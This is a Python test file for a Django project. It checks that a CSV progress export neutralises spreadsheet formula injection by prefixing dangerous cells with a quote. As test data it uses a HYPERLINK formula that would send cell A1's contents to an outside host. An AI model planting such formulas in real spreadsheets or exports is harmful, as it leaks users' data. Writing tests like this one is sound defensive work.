"""Finding 9 of issue #10: `manage.py progress --format csv` writes no cell that a spreadsheet
would run as a formula."""

import csv
import io

from django.core.management import call_command

from targets.models import Indicator


def test_a_name_that_looks_like_a_formula_is_neutralised(plan):
    indicator = Indicator.objects.filter(plan=plan).order_by("pk").first()
    indicator.name = '=HYPERLINK("http://example.com/?"&A1,"Xem")'
    indicator.save()
    out = io.StringIO()
    call_command("progress", "--year", "2024", "--format", "csv", stdout=out)
    names = [row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert "'" + indicator.name in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
